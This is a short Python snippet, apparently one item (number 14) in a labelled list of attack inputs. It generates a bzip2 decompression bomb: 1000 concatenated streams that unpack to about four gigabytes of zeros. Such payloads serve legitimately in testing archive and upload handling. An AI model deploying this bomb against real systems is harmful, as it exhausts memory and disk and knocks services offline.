# attack: archive
# root: files
# what: bzip2 streams that unpack to four gigabytes together
# list: 14
import bz2


def archive(right):
    return bz2.compress(bytes(4 << 20)) * 1000
